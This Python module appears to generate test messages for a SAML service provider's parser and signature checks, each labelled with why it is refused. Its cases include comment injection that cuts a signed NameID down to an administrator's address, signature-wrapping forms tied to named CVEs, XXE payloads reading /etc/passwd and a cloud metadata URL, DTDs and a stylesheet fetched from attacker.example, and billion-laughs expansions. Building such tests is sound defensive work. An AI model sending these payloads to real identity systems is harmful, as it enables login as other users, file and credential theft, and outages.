"""Texts that two readers read differently: comments, CDATA, entities, processing instructions, encodings."""
import re

from .cases import case, own
from .tree import Tree

EVIL = "admin@acme.example.evil.example"
CUT = "admin@acme.example"
COMMENT = "the signature does not cover comments, and a reader that takes the first text node reads another name than was signed"


def comments():
    """The provider signed an address of the attacker's, which a comment cuts to the victim's."""
    spots = {
        "behind the victim's address": CUT + "<!---->" + ".evil.example",
        "with words": CUT + "<!-- a word -->" + ".evil.example",
        "two of them": CUT + "<!----><!---->" + ".evil.example",
        "and CDATA behind": CUT + "<!----><![CDATA[.evil.example]]>",
    }
    for algorithm, by in (("rsa-sha256", "idp"), ("ecdsa-sha256", "idp-ec")):
        for scope in ("response", "assertion", "both"):
            line = own(f"comment-{scope}-{by}", scope, algorithm=algorithm, by=by, differ={"name_id": EVIL, "attributes": {}})
            for name, text in spots.items():
                yield case("comment in NameID", f"{name}, {scope} signed, {algorithm}", line, line["message"].replace(EVIL, text), COMMENT)
    line = own("comment-front", differ={"name_id": "x" + CUT})
    yield case("comment in NameID", "before the victim's address", line, line["message"].replace("x" + CUT, "x<!---->" + CUT), COMMENT + " (here the last one)")
    import shapes

    differ = {"name_id": "7f3c", "attributes": {"email": [EVIL], "groups": ["Staff-guests"]}}
    for shape in (shapes.okta, shapes.entra, shapes.keycloak):
        line = own(f"comment-{shape.__name__}", "assertion", shape, differ=differ)
        yield case("comment in an attribute", f"email, {shape.__name__}", line, line["message"].replace(EVIL, CUT + "<!---->.evil.example"), COMMENT)
        yield case("comment in an attribute", f"group, {shape.__name__}", line, line["message"].replace("Staff-guests", "Staff<!---->-guests"), COMMENT)
    line = own("comment-elsewhere", "assertion", shapes.okta, differ=differ)
    issuer, audience = "https://idp.example/keys", line["sp"]["entityId"]
    for what, text in (("Issuer", issuer), ("Audience", audience), ("AuthnContextClassRef", shapes.PASSWORD)):
        cut = f">{text[:12]}<!---->{text[12:]}<"
        yield case("comment in another text", what, line, line["message"].replace(f">{text}<", cut), "a comment cuts a text that decides; no provider writes one there")
    logout = own_logout_with(EVIL)
    yield case("comment in NameID", "of a logout request", logout, logout["message"].replace(EVIL, CUT + "<!---->.evil.example"), COMMENT + ": another person's sessions would end")


def own_logout_with(name):
    from .cases import own_logout

    return own_logout("comment-logout", differ={"name_id": name})


def signature_comments(bases):
    """xml-crypto's CVE-2025-29775 and -29774: what is compared is not what was signed."""
    line = own("digest-comment", "assertion")
    message = line["message"]
    value = re.search(r"<ds:DigestValue>([^<]*)<", message).group(1)
    import shapes

    from .sign import c14n, digest_of, element
    from .tree import name_another, set_id  # noqa: F401

    evil = re.sub(r"(NameID[^>]*>)[^<]*", r"\1admin@acme.example", message)
    unsigned = re.sub(r"<ds:Signature.*?</ds:Signature>", "", evil)
    fresh = digest_of(c14n(element(unsigned, "_a-digest-comment")), "sha256")
    why = "a reader that joins or takes the first text of DigestValue compares with the attacker's digest, while the signed SignedInfo has no comment (CVE-2025-29775)"
    for name, text in {
        "the attacker's in a comment before": f"<!--{fresh}-->{value}",
        "the attacker's in a comment after": f"{value}<!--{fresh}-->",
        "a comment in the middle": f"{value[:10]}<!--{fresh}-->{value[10:]}",
        "the attacker's as text": f"{fresh}<!--{value}-->",
    }.items():
        yield case("comment in DigestValue", name, line, evil.replace(f">{value}<", f">{text}<"), why)
        yield case("comment in DigestValue", f"{name}, nothing else altered", line, message.replace(f">{value}<", f">{text}<"), "a comment in a signature: no signer writes one, and readers differ over it (CVE-2025-29775)") if "as text" not in name else case("comment in DigestValue", f"{name}, the digest alone", line, message.replace(f">{value}<", f">{text}<"), why)
    for spot in ("<ds:SignedInfo>", "<ds:Reference", "<ds:SignatureValue>", "<ds:Transforms>", "</ds:SignedInfo>"):
        yield case("comment in SignedInfo", spot.strip("<>"), line, message.replace(spot, f"<!--{fresh}-->{spot}" if spot.startswith(("</", "<ds:Ref", "<ds:Tr")) else f"{spot}<!--{fresh}-->"), "a comment in a signature: no signer writes one, and readers differ over it (CVE-2025-29775)")
    info = re.search(r"<ds:SignedInfo>.*?</ds:SignedInfo>", evil).group(0)
    forged = info.replace(value, fresh)
    why = "two SignedInfo: one is verified and the other's digest compared (CVE-2025-29774)"
    for name, text in {
        "the forged one second": info + forged, "the forged one first": forged + info,
        "in an Object": None, "nested": info.replace("</ds:SignedInfo>", forged + "</ds:SignedInfo>"),
        "in KeyInfo": None,
    }.items():
        if text is None:
            where = name.split()[1]
            new = evil.replace("</ds:Signature>", f"<ds:{where}>{forged}</ds:{where}></ds:Signature>")
        else:
            new = evil.replace(info, text)
        yield case("several SignedInfo", name, line, new, why)
    yield case("DigestValue elsewhere", "in StatusDetail", line, evil.replace("</p:Status>", f'<p:StatusDetail><ds:DigestValue xmlns:ds="http://www.w3.org/2000/09/xmldsig#">{fresh}</ds:DigestValue></p:StatusDetail></p:Status>'), "a digest is looked for anywhere in the message instead of in the verified SignedInfo (ruby-saml, CVE-2024-45409)")
    yield case("DigestValue elsewhere", "in Extensions", line, evil.replace("<p:Status>", f'<p:Extensions><ds:DigestValue xmlns:ds="http://www.w3.org/2000/09/xmldsig#">{fresh}</ds:DigestValue></p:Extensions><p:Status>'), "a digest is looked for anywhere in the message instead of in the verified SignedInfo (ruby-saml, CVE-2024-45409)")
    yield case("DigestValue elsewhere", "a whole Reference in Extensions", line, evil.replace("<p:Status>", '<p:Extensions xmlns:ds="http://www.w3.org/2000/09/xmldsig#">' + re.search(r"<ds:Reference.*</ds:Reference>", forged).group(0) + "</p:Extensions><p:Status>"), "a reference is looked for anywhere in the message instead of in the verified SignedInfo (ruby-saml, CVE-2024-45409)")


def declarations():
    """DOCTYPE, entities and processing instructions: refused before anything is parsed."""
    line = own("doctype", "assertion", differ={"name_id": "mallory"})
    message = line["message"]
    why = "a message has no DOCTYPE: entities and default attributes mean other bytes to other parsers, and cost memory"
    doctype = lambda subset="", root="p:Response", more="": f"<!DOCTYPE {root}{more}{' [' + subset + ']' if subset else ''}>"  # noqa: E731
    lol = '<!ENTITY a "lollollollol">' + "".join(f'<!ENTITY {c} "{f"&{p};" * 10}">' for p, c in zip("abcdefghi", "bcdefghij"))
    for name, (head, body) in {
        "nothing declared": (doctype(), message),
        "in lower case": ("<!doctype p:Response>", message),
        "an entity for the name": (doctype('<!ENTITY who "admin@acme.example">'), message.replace(">mallory<", ">&who;<")),
        "an external entity": (doctype('<!ENTITY who SYSTEM "file:///etc/passwd">'), message.replace(">mallory<", ">&who;<")),
        "an external entity over HTTP": (doctype('<!ENTITY who SYSTEM "http://169.254.169.254/latest/meta-data/">'), message.replace(">mallory<", ">&who;<")),
        "a parameter entity": (doctype('<!ENTITY % all SYSTEM "http://attacker.example/all.dtd"> %all;'), message),
        "an external subset": (doctype(more=' SYSTEM "http://attacker.example/all.dtd"'), message),
        "a public identifier": (doctype(more=' PUBLIC "-//OASIS//DTD" "http://attacker.example/all.dtd"'), message),
        "a billion laughs": (doctype(lol), message.replace(">mallory<", ">&j;<")),
        "a quadratic blowup": (doctype(f'<!ENTITY a "{"a" * 2000}">'), message.replace(">mallory<", f">{'&a;' * 300}<")),
        "an attribute that is an ID": (doctype('<!ATTLIST p:Response Version ID #IMPLIED>'), message),
        "a default attribute": (doctype('<!ATTLIST a:NameID Format CDATA "urn:evil">'), message),
        "a default ID of another element": (doctype(f'<!ATTLIST p:Status ID CDATA "_a-doctype">'), message),
        "a default namespace": (doctype('<!ATTLIST p:Response xmlns:a CDATA "urn:evil">'), message),
        "an entity that holds an element": (doctype('<!ENTITY x "<a:NameID>admin@acme.example</a:NameID>">'), message.replace("<a:NameID", "&x;<a:NameID")),
        "a notation": (doctype('<!NOTATION n PUBLIC "x">'), message),
        "after a comment": ("<!-- a -->" + doctype(), message),
        "another root": (doctype(root="html"), message),
    }.items():
        yield case("DOCTYPE", name, line, head + body, why)
    yield case("DOCTYPE", "in the middle", line, message.replace("<p:Status>", "<!DOCTYPE p:Status><p:Status>"), "not XML, although some parsers pass over it")
    yield case("DOCTYPE", "an entity that nobody declared", line, message.replace(">mallory<", ">&who;<"), "not well-formed")

    why = "processing instructions are refused: readers differ over the text around them, and no provider sends one"
    for name, new in {
        "in NameID": message.replace(">mallory<", ">mal<?x y?>lory<"),
        "before the root": "<?xml-stylesheet href='http://attacker.example/a.xsl' type='text/xsl'?>" + message,
        "after the root": message + "<?x y?>",
        "between elements": message.replace("<p:Status>", "<?x y?><p:Status>"),
        "in SignedInfo": message.replace("<ds:SignedInfo>", "<ds:SignedInfo><?x y?>"),
        "in DigestValue": message.replace("<ds:DigestValue>", "<ds:DigestValue><?x y?>"),
        "in SignatureValue": message.replace("<ds:SignatureValue>", "<ds:SignatureValue><?x y?>"),
    }.items():
        yield case("processing instruction", name, line, new, why)
    signed = own("pi-signed", "assertion", change=lambda xml: xml.replace(">_pi<", "><?x y?>_pi<"), differ={"name_id": "_pi"})
    yield case("processing instruction", "signed by the provider", signed, signed["message"], why)


def not_xml():
    """Bytes that parsers read each in their own way."""
    line = own("parser", "assertion", differ={"name_id": "mallory"})
    message = line["message"]
    tree = Tree(message)
    why = "not well-formed XML 1.0 in UTF-8, or not one document: what a parser makes of it is its own affair"
    evil = message.replace(">mallory<", ">admin@acme.example<")
    for name, new in {
        "two documents": message + evil,
        "two documents, the forged one first": evil + message,
        "text after the root": message + "evil",
        "text before the root": "evil" + message,
        "cut off": message[:-10],
        "an attribute twice": message.replace(' Version="2.0"', ' Version="2.0" Version="2.0"', 1),
        "an ID twice": message.replace(' ID="_a-parser"', ' ID="_a-parser" ID="_evil"'),
        "an attribute twice by its namespace": message.replace(' ID="_a-parser"', ' ID="_a-parser" xmlns:u="urn:u" xmlns:v="urn:u" u:ID="_a" v:ID="_b"'),
        "a prefix without a namespace": message.replace("<a:NameID", "<evil:x/><a:NameID"),
        "a null character": message.replace("mallory", "mallory\\u0000".encode().decode("unicode_escape")),
        "a reference to a null character": message.replace("mallory", "mallory&#0;"),
        "a control character": message.replace("mallory", "mal\u0008lory"),
        "a reference to a control character": message.replace("mallory", "mallory&#8;"),
        "XML 1.1": '<?xml version="1.1"?>' + message,
        "UTF-16 declared": '<?xml version="1.0" encoding="UTF-16"?>' + message,
        "UTF-7 declared": '<?xml version="1.0" encoding="UTF-7"?>' + message.replace("mallory", "+AGEAZABtAGkAbg-"),
        "ISO-8859-1 declared": '<?xml version="1.0" encoding="ISO-8859-1"?>' + message,
        "the declaration not at the front": " <?xml version='1.0'?>" + message,
        "an attribute without quotes": message.replace('Version="2.0"', "Version=2.0", 1),
        "a less-than sign in an attribute": message.replace('Version="2.0"', 'Version="2.0" a="<"', 1),
        "tags that cross": message.replace("</a:NameID>", "").replace("</a:Subject>", "</a:NameID></a:Subject>") .replace("<a:SubjectConfirmation ", "</a:Subject><a:SubjectConfirmation ", 1),
        "the end of CDATA in a text": message.replace("mallory", "mallory]]>"),
        "a CDATA section that does not end": message.replace("mallory", "<![CDATA[mallory"),
        "a name with two colons": message.replace("<p:Status>", "<p:Status><p:a:b/>"),
        "nothing": "",
        "white space": "  \n",
        "not XML at all": "SAMLResponse",
        "HTML": "<html><body>" + message + "</body></html>",
        "JSON": '{"nameId":"admin@acme.example"}',
    }.items():
        yield case("not XML", name, line, new, why)
    outer = tree.outer(tree.root)
    soap = f'<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/"><s:Body>{outer}</s:Body></s:Envelope>'
    yield case("another document", "a SOAP envelope around it", line, soap, "the root is not a Response: this binding has no envelope")
    assertion = tree.find("Assertion")
    yield case("another document", "an Assertion alone", line, tree.outer(assertion), "the root is not a Response: Destination, Status and InResponseTo would be nobody's")
    wrapped = f'<a:Wrapper xmlns:a="urn:evil">{outer}</a:Wrapper>'
    yield case("another document", "an element around it", line, wrapped, "the root is not a Response")


def attributes_with_line_breaks():
    line = own("spaces", "assertion", differ={"name_id": "mallory"})
    for name, text in (("a tab", "\t"), ("a line feed", "\n")):
        new = line["message"].replace('ID="_a-spaces"', f'ID="{text}_a-spaces"').replace('URI="#_a-spaces"', f'URI="#{text}_a-spaces"')
        yield case("not XML", f"an ID with {name}", line, new, "attribute values are normalised by one reader and not by another, so that IDs differ between them")


def cases(bases):
    yield from comments()
    yield from signature_comments(bases)
    yield from declarations()
    yield from not_xml()
    yield from attributes_with_line_breaks()
